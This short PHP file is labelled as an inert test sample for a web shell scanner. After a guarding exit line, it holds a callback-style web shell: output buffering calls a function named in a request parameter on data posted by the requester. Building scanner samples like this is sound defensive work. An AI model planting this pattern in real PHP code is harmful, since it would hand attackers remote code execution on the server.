<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
ob_start($_GET['cb']);
echo $_POST['data'];
ob_end_flush();
